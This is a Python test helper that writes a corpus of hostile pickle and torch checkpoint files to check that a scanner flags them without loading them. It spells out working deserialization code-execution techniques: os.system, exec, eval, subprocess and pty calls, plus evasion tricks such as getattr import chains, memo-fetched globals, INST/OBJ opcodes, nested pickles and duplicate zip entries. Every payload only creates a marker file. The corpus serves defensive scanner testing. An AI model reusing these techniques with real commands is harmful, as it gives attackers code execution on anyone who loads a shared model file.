"""A corpus of hostile pickles, written per test into a folder: every probe would create MARKER if loaded.

NEVER load one of these files (pickle.load, torch.load, joblib.load, numpy.load(allow_pickle=True)): the lake
reads them as opcodes only, and tests/facts/test_pickle_gate.py checks that MARKER never appears.

Each probe is a file as an attacker would upload it: bare pickles of protocols 0 to 5, torch.save-shaped zips,
legacy (pre-zip) torch files, nested pickles, imports hidden behind getattr chains, STACK_GLOBAL operands
fetched from the memo, dotted names resolved attribute by attribute, INST/OBJ opcodes, a payload before a
truncation, and a zip whose two `archive/data.pkl` entries differ (Python's zipfile reads the last, torch the
first). `expected` is the least severity the lake must give the file, and `imports` the globals it must
name; both are decided here, before the gate was written, from what loading the file would do.

Build with `build_corpus(folder, marker)`; `python -m tests.facts.hostile_pickles DIR` writes the corpus to
DIR (marker DIR/MARKER) for running other scanners on it by hand.
"""
from __future__ import annotations

import io
import pickle
import struct
import sys
import warnings
import zipfile
from dataclasses import dataclass
from pathlib import Path

LEGACY_MAGIC = 0x1950A86A20F9469CFC6C  # torch.serialization.MAGIC_NUMBER


@dataclass(frozen=True)
class Probe:
    name: str        # file name inside the corpus folder (its extension is what a loader would pick it by)
    how: str         # what the file does when loaded
    expected: str    # least severity the lake must report: "critical" or "high"
    imports: tuple[str, ...]  # globals the lake must name (Python 3 spelling, as the unpickler resolves them)


# ---------------------------------------------------------------------------------------------- opcodes
def _text(value: str) -> bytes:
    raw = value.encode()
    return pickle.SHORT_BINUNICODE + bytes([len(raw)]) + raw if len(raw) < 256 else pickle.BINUNICODE + struct.pack("<I", len(raw)) + raw


def _global0(module: str, name: str) -> bytes:
    return pickle.GLOBAL + f"{module}\n{name}\n".encode()


def _stack_global(module: str, name: str) -> bytes:
    return _text(module) + _text(name) + pickle.STACK_GLOBAL


def _call(target: bytes, *args: bytes) -> bytes:
    """target(*args) as MARK args TUPLE REDUCE (any protocol >= 1)."""
    return target + pickle.MARK + b"".join(args) + pickle.TUPLE + pickle.REDUCE


def _program(body: bytes, protocol: int) -> bytes:
    head = pickle.PROTO + bytes([protocol]) if protocol >= 2 else b""
    return head + body + pickle.STOP


def _touch_code(marker: Path) -> str:
    return f"open({str(marker)!r}, 'w').close()"


# ------------------------------------------------------------------------------------ __reduce__ payloads
class _Reduces:
    """An object that pickles as `function(*args)`: what every pickle exploit is."""

    def __init__(self, function, *args):
        self.function, self.args = function, args

    def __reduce__(self):
        return self.function, self.args


def _dumps(payload, protocol: int) -> bytes:
    return pickle.dumps({"model.embed_tokens.weight": [0.0] * 4, "_config": payload}, protocol=protocol)


# -------------------------------------------------------------------------------------------- torch files
def _torch_zip(entries: list[tuple[str, bytes]]) -> bytes:
    """A torch.save-shaped archive (stored, not compressed, as torch writes it) with the given extra entries."""
    buffer = io.BytesIO()
    with warnings.catch_warnings(), zipfile.ZipFile(buffer, "w", zipfile.ZIP_STORED) as archive:
        warnings.simplefilter("ignore")  # zipfile warns about the duplicate name the duplicate-entry probe writes on purpose
        for name, data in entries + [("archive/.format_version", b"1"), ("archive/byteorder", b"little"), ("archive/version", b"3\n"),
                                     ("archive/data/0", bytes(16))]:
            archive.writestr(name, data)
    return buffer.getvalue()


def _benign_data_pkl() -> bytes:
    """data.pkl of torch.save({'w': torch.ones(2, 2)}) (protocol 2, storage as a persistent id)."""
    storage = pickle.MARK + _text("storage") + _global0("torch", "FloatStorage") + _text("0") + _text("cpu") + pickle.BININT1 + b"\x04" + \
        pickle.TUPLE + pickle.BINPERSID
    tensor = _call(_global0("torch._utils", "_rebuild_tensor_v2"), storage, pickle.BININT1 + b"\x00",
                   pickle.BININT1 + b"\x02" + pickle.BININT1 + b"\x02" + pickle.TUPLE2, pickle.BININT1 + b"\x02" + pickle.BININT1 + b"\x01" +
                   pickle.TUPLE2, pickle.NEWFALSE, _call(_global0("collections", "OrderedDict")))
    return _program(pickle.EMPTY_DICT + _text("w") + tensor + pickle.SETITEM, 2)


def _legacy_torch(object_pickle: bytes) -> bytes:
    """A pre-zip torch file: magic number, protocol version, system info, then the object, then the storage keys."""
    return (pickle.dumps(LEGACY_MAGIC, protocol=2) + pickle.dumps(1001, protocol=2) +
            pickle.dumps({"protocol_version": 1001, "little_endian": True, "type_sizes": {"short": 2, "int": 4, "long": 4}}, protocol=2) +
            object_pickle + pickle.dumps([], protocol=2))


# ------------------------------------------------------------------------------------------------ corpus
def build_corpus(folder: Path, marker: Path) -> list[tuple[Probe, Path]]:
    """Write every probe into `folder`; each would create `marker` when loaded."""
    import os
    import subprocess
    import timeit

    folder.mkdir(parents=True, exist_ok=True)
    code = _touch_code(marker)
    command = f"touch {marker}"
    hub = folder / "hub-repo"  # a torch.hub 'local' repo whose hubconf.py creates the marker on import
    hub.mkdir(exist_ok=True)
    (hub / "hubconf.py").write_text(f"{code}\n\ndef model():\n    return None\n")
    inner_legacy = _legacy_torch(_dumps(_Reduces(os.system, command), 2))
    exec_payload = _program(_call(_global0("builtins", "exec"), _text(code)), 2)

    probes: list[tuple[Probe, bytes]] = [
        # --- one dangerous callable per protocol, written by pickle itself (the usual __reduce__ exploit)
        (Probe("p0-os-system.pkl", "os.system(touch) in a protocol 0 pickle", "critical", ("posix.system",)),
         _dumps(_Reduces(os.system, command), 0)),
        (Probe("p1-exec.pkl", "exec(code) in a protocol 1 pickle", "critical", ("builtins.exec",)), _dumps(_Reduces(exec, code), 1)),
        (Probe("p2-eval.pkl", "eval(code) in a protocol 2 pickle (written as __builtin__.eval)", "critical", ("builtins.eval",)),
         _dumps(_Reduces(eval, code), 2)),
        (Probe("p3-subprocess.pkl", "subprocess.Popen(['touch', MARKER]) in a protocol 3 pickle", "critical", ("subprocess.Popen",)),
         _dumps(_Reduces(subprocess.Popen, ["touch", str(marker)]), 3)),
        (Probe("p4-timeit.pkl", "timeit.timeit(code, 'pass', perf_counter, 1): timeit compiles and runs the statement", "critical",
               ("timeit.timeit",)), _dumps(_Reduces(timeit.timeit, code, "pass", __import__("time").perf_counter, 1), 4)),
        (Probe("p5-pdb-run.pkl", "pdb.run(code) in a protocol 5 pickle", "critical", ("pdb.run",)),
         _dumps(_Reduces(__import__("pdb").run, code), 5)),
        (Probe("p4-runstring.pkl", "numpy.testing._private.utils.runstring(code, {}): a synonym for exec", "critical",
               ("numpy.testing._private.utils.runstring",)), _dumps(_Reduces(__import__("numpy.testing._private.utils").testing._private.utils.runstring,
                                                                             code, {}), 4)),
        (Probe("p2-cprofile.pkl", "cProfile.run(code): profiles (executes) the string", "critical", ("cProfile.run",)),
         _dumps(_Reduces(__import__("cProfile").run, code), 2)),
        (Probe("p3-profile.pkl", "profile.run(code)", "critical", ("profile.run",)), _dumps(_Reduces(__import__("profile").run, code), 3)),
        (Probe("p4-runpy.pkl", "runpy._run_code(code, {}): exec with fresh globals", "critical", ("runpy._run_code",)),
         _dumps(_Reduces(__import__("runpy")._run_code, code, {}), 4)),
        (Probe("p2-pty-spawn.pkl", "pty.spawn(['touch', MARKER])", "critical", ("pty.spawn",)),
         _dumps(_Reduces(__import__("pty").spawn, ["touch", str(marker)]), 2)),
        (Probe("p3-open.pkl", "builtins.open(MARKER, 'w') (pickled as io.open): creates the file by opening it", "high", ("io.open",)),
         _dumps(_Reduces(open, str(marker), "w"), 3)),
        (Probe("p4-shutil-copy.pkl", "shutil.copyfile(/etc/hostname, MARKER)", "high", ("shutil.copyfile",)),
         _dumps(_Reduces(__import__("shutil").copyfile, "/etc/hostname", str(marker)), 4)),
        # --- obfuscation: the dangerous callable is not a plain GLOBAL of a well-known name
        (Probe("getattr-import-chain.pkl", "getattr(__import__('os'), 'system')(touch): the import is a string argument", "critical",
               ("builtins.getattr", "builtins.__import__")),
         _program(_call(_call(_global0("builtins", "getattr"), _call(_global0("builtins", "__import__"), _text("os")), _text("system")),
                        _text(command)), 2)),
        (Probe("importlib-getattr.pkl", "getattr(importlib.import_module('os'), 'system')(touch)", "critical",
               ("builtins.getattr", "importlib.import_module")),
         _program(_call(_call(_stack_global("builtins", "getattr"), _call(_stack_global("importlib", "import_module"), _text("os")),
                              _text("system")), _text(command)), 4)),
        (Probe("code-interpreter-method.pkl", "getattr(code.InteractiveInterpreter(), 'runsource')(code): a method reached by getattr",
               "critical", ("builtins.getattr", "code.InteractiveInterpreter")),
         _program(_call(_call(_global0("builtins", "getattr"), _call(_global0("code", "InteractiveInterpreter")), _text("runsource")),
                        _text(code)), 2)),
        (Probe("operator-attrgetter.pkl", "operator.attrgetter('system')(__import__('os'))(touch)", "critical",
               ("operator.attrgetter", "builtins.__import__")),
         _program(_call(_call(_call(_global0("operator", "attrgetter"), _text("system")), _call(_global0("builtins", "__import__"), _text("os"))),
                        _text(command)), 2)),
        (Probe("functools-partial.pkl", "functools.partial(os.system, touch)(): the call is deferred into a partial", "critical",
               ("functools.partial", "posix.system")),
         _program(_call(_call(_global0("functools", "partial"), _global0("posix", "system"), _text(command))), 2)),
        (Probe("stack-global-memo.pkl", "STACK_GLOBAL whose module and name are fetched from the memo, stored long before", "critical",
               ("posix.system",)),
         _program(_text("posix") + pickle.BINPUT + b"\x07" + pickle.POP + _text("system") + pickle.BINPUT + b"\x08" + pickle.POP +
                  pickle.EMPTY_DICT + _text("weight") + pickle.BINGET + b"\x07" + pickle.BINGET + b"\x08" + pickle.STACK_GLOBAL +
                  pickle.MARK + _text(command) + pickle.TUPLE + pickle.REDUCE + pickle.SETITEM, 4)),
        (Probe("memo-overwrite.pkl", "memo slot 0 first holds collections.OrderedDict, then is overwritten with os.system and called",
               "critical", ("posix.system",)),
         _program(_global0("collections", "OrderedDict") + pickle.BINPUT + b"\x00" + pickle.POP + _global0("posix", "system") +
                  pickle.BINPUT + b"\x00" + pickle.POP + pickle.BINGET + b"\x00" + pickle.MARK + _text(command) + pickle.TUPLE +
                  pickle.REDUCE, 2)),
        (Probe("dotted-name.pkl", "STACK_GLOBAL('numpy', 'testing._private.utils.runstring'): protocol 4 resolves dotted names "
               "attribute by attribute", "critical", ("numpy.testing._private.utils.runstring",)),
         _program(_call(_stack_global("numpy", "testing._private.utils.runstring"), _text(code), pickle.EMPTY_DICT), 4)),
        (Probe("inst-opcode.pkl", "INST posix system (protocol 0): import and call in one opcode", "critical", ("posix.system",)),
         pickle.MARK + pickle.STRING + repr(command).encode() + b"\n" + pickle.INST + b"posix\nsystem\n" + pickle.STOP),
        (Probe("obj-opcode.pkl", "OBJ with builtins.exec (protocol 1)", "critical", ("builtins.exec",)),
         pickle.MARK + _global0("builtins", "exec") + _text(code) + pickle.OBJ + pickle.STOP),
        # --- nested: the outer pickle unpickles an inner one
        (Probe("nested-pickle-loads.pkl", "pickle.loads(inner) where the inner pickle calls exec", "critical", ("_pickle.loads",)),
         _dumps(_Reduces(pickle.loads, exec_payload), 3)),
        (Probe("nested-torch-bytes.pt", "torch.storage._load_from_bytes(legacy torch file): torch.load(weights_only=False) of the inner bytes",
               "critical", ("torch.storage._load_from_bytes",)),
         _torch_zip([("archive/data.pkl", _program(_call(_global0("torch.storage", "_load_from_bytes"),
                                                         pickle.BINBYTES + struct.pack("<I", len(inner_legacy)) + inner_legacy), 2))])),
        # --- torch checkpoints: what torch.load itself would run
        (Probe("torch-zip-os-system.pt", "a torch.save zip whose data.pkl calls os.system", "critical", ("posix.system",)),
         _torch_zip([("archive/data.pkl", _dumps(_Reduces(os.system, command), 2))])),
        (Probe("torch-zip-timeit.bin", "pytorch_model.bin (zip) whose data.pkl calls timeit.timeit", "critical", ("timeit.timeit",)),
         _torch_zip([("archive/data.pkl", _dumps(_Reduces(timeit.timeit, code, "pass", __import__("time").perf_counter, 1), 2))])),
        (Probe("torch-zip-runstring.pth", "a torch zip whose data.pkl calls numpy's runstring", "critical",
               ("numpy.testing._private.utils.runstring",)),
         _torch_zip([("archive/data.pkl", _dumps(_Reduces(__import__("numpy.testing._private.utils").testing._private.utils.runstring,
                                                          code, {}), 2))])),
        (Probe("torch-zip-duplicate-data.pt", "two archive/data.pkl entries: torch loads the first (os.system), zipfile reads the last (clean)",
               "critical", ("posix.system",)),
         _torch_zip([("archive/data.pkl", _dumps(_Reduces(os.system, command), 2)), ("archive/data.pkl", _benign_data_pkl())])),
        (Probe("torch-hub-partial.pt", "functools.partial(torch.hub.load, source='local') set by BUILD, then called: imports hubconf.py",
               "critical", ("functools.partial", "torch.hub.load")),
         _torch_zip([("archive/data.pkl", _program(
             _call(_call(_global0("functools", "partial"), _global0("torch.hub", "load")) + pickle.MARK + _global0("torch.hub", "load") +
                   pickle.MARK + _text(str(hub)) + _text("model") + pickle.TUPLE + pickle.EMPTY_DICT + _text("source") + _text("local") +
                   pickle.SETITEM + _text("trust_repo") + pickle.NEWTRUE + pickle.SETITEM + pickle.NONE + pickle.TUPLE + pickle.BUILD), 2))])),
        (Probe("legacy-protocol0-object.pt", "a pre-zip torch file whose fourth pickle (the object) is protocol 0 and calls os.system",
               "critical", ("posix.system",)), _legacy_torch(_dumps(_Reduces(os.system, command), 0))),
        (Probe("pytorch_model.bin", "a bare protocol 0 pickle named like a torch checkpoint: torch.load falls back to the legacy loader",
               "critical", ("builtins.exec",)), _dumps(_Reduces(exec, code), 0)),
        (Probe("truncated-after-payload.pkl", "os.system is called, then the stream ends without STOP: the call has run before the error",
               "critical", ("posix.system",)),
         (pickle.PROTO + b"\x02" + _call(_global0("posix", "system"), _text(command)) + pickle.MARK + _text("w"))),
    ]
    written = []
    for probe, data in probes:
        path = folder / probe.name
        path.write_bytes(data)
        written.append((probe, path))
    return written


if __name__ == "__main__":
    target = Path(sys.argv[1])
    for probe, path in build_corpus(target, target / "MARKER"):
        print(f"{path}  [{probe.expected}] {probe.how}")
